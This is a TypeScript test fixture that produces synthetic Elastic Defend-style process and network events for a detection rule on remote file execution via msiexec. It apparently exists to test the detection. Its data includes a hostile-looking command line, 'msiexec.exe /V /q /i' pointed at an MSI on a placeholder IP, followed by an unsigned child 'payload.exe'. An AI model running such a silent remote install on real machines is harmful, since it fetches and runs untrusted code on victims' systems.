/**
 * Events of the seed rule's attack ("Potential Remote File Execution via MSIEXEC"), shaped like
 * Elastic Defend events: msiexec.exe started with /V, msiexec connecting out, and a child process
 * of msiexec. The child has no code_signature fields at all: an unsigned payload.
 */
export interface AttackOptions {
  readonly host?: string;
  readonly start?: string; // ISO time of the first event
  readonly childDelayMs?: number;
  readonly child?: Record<string, unknown>;
  readonly idPrefix?: string;
}

export function seedAttack(options: AttackOptions = {}): Record<string, unknown>[] {
  const t0 = Date.parse(options.start ?? "2026-11-20T10:00:00.000Z");
  const at = (ms: number) => new Date(t0 + ms).toISOString();
  const host = { id: options.host ?? "host-1", name: "WIN-FIN-07", os: { type: "windows", family: "windows", name: "Windows 11 Pro" } };
  const p = options.idPrefix ?? "a";
  const msiexecId = `${p}-msiexec-entity`;
  const user = { id: "S-1-5-21-1004336348-1177238915-682003330-1105", name: "jdoe", domain: "CORP" };
  const ds = (dataset: string) => ({ type: "logs", dataset, namespace: "default" });
  return [
    {
      "@timestamp": at(0),
      event: { id: `${p}-1`, category: ["process"], type: ["start"], action: "start", kind: "event" },
      data_stream: ds("endpoint.events.process"),
      host, user,
      process: {
        entity_id: msiexecId, pid: 4242, name: "msiexec.exe", executable: "C:\\Windows\\System32\\msiexec.exe",
        args: ["C:\\Windows\\System32\\msiexec.exe", "/V", "/q", "/i", "http://198.51.100.7/update.msi"],
        command_line: "msiexec.exe /V /q /i http://198.51.100.7/update.msi",
        parent: { entity_id: `${p}-explorer`, name: "explorer.exe" },
        code_signature: { subject_name: "Microsoft Windows", trusted: true },
      },
    },
    {
      "@timestamp": at(1500),
      event: { id: `${p}-2`, category: ["network"], type: ["start"], action: "connection_attempted", kind: "event" },
      data_stream: ds("endpoint.events.network"),
      host, user,
      process: { entity_id: msiexecId, pid: 4242, name: "msiexec.exe", executable: "C:\\Windows\\System32\\msiexec.exe" },
      network: { direction: "egress", transport: "tcp" },
      source: { ip: "10.20.30.40", port: 50123 },
      destination: { ip: "198.51.100.7", port: 80 },
    },
    {
      "@timestamp": at(options.childDelayMs ?? 4000),
      event: { id: `${p}-3`, category: ["process"], type: ["start"], action: "start", kind: "event" },
      data_stream: ds("endpoint.events.process"),
      host, user,
      process: {
        entity_id: `${p}-payload-entity`, pid: 5150, name: "payload.exe",
        executable: "C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI4F2A\\payload.exe",
        args: ["C:\\Users\\jdoe\\AppData\\Local\\Temp\\MSI4F2A\\payload.exe"],
        parent: { entity_id: msiexecId, pid: 4242, name: "msiexec.exe" },
        Ext: { token: { integrity_level_name: "medium" } },
        ...(options.child ?? {}),
      },
    },
  ];
}
